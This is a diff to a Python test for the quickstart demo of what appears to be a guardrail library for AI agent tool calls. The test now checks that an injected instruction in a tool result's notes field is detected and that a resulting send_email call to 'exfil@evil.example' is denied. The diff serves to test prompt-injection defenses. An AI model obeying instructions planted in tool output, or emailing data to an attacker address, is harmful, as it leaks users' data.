@@ -10,7 +10,8 @@ EXAMPLES = Path(__file__).resolve().parent.parent / "examples"
 
 
 def test_quickstart_shows_every_kind_of_decision() -> None:
-    """The demo prints an allow, an out-of-intent denial, argument denials, a spent budget and expiry."""
+    """The demo prints an allow, a detected injection, an out-of-intent denial, argument denials, a spent
+    budget and expiry."""
     result = subprocess.run(
         [sys.executable, str(EXAMPLES / "quickstart.py")], capture_output=True, text=True, check=True, timeout=60
     )
@@ -19,6 +20,8 @@ def test_quickstart_shows_every_kind_of_decision() -> None:
         assert code in out
     assert "ALLOW  lookup_order(order_id='A123')" in out
     assert "must be at most parameter max_refund (50)" in out
-    assert "7 audit records" in out
-    assert "2 allowed, 5 denied" in out
+    assert "untrusted instruction found in tool:lookup_order#call-1 $.notes" in out
+    assert "DENY   send_email(to='exfil@evil.example'" in out
+    assert "8 audit records" in out
+    assert "2 allowed, 6 denied" in out
     assert result.stderr == ""
